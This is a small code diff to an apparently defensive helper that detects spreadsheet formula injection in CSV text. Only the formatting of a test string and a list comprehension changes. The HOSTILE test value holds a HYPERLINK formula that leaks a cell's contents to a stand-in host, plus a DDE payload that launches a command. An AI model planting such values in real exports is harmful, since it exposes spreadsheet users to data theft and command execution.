@@ -9,7 +9,7 @@ import io
 from core.csv_safe import FORMULA_STARTS, is_plain_number
 
 # the link text: a review of it exported the formula cells '=HYPERLINK(...)' and '@SUM(1)*cmd|...'
-HOSTILE = "Nice film,=HYPERLINK(\"http://x/?\"&A1,\"c\"),@SUM(1)*cmd|' /C calc'!A0"
+HOSTILE = 'Nice film,=HYPERLINK("http://x/?"&A1,"c"),@SUM(1)*cmd|\' /C calc\'!A0'
 
 
 def formula_cells(text: str) -> list[tuple[str, str]]:
@@ -18,6 +18,9 @@ def formula_cells(text: str) -> list[tuple[str, str]]:
     found = []
     for separator in (",", ";", "\t"):
         for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
-            found += [(separator, cell) for cell in row
-                      if cell[:1] in FORMULA_STARTS and not is_plain_number(cell.split(",")[0])]
+            found += [
+                (separator, cell)
+                for cell in row
+                if cell[:1] in FORMULA_STARTS and not is_plain_number(cell.split(",")[0])
+            ]
     return found
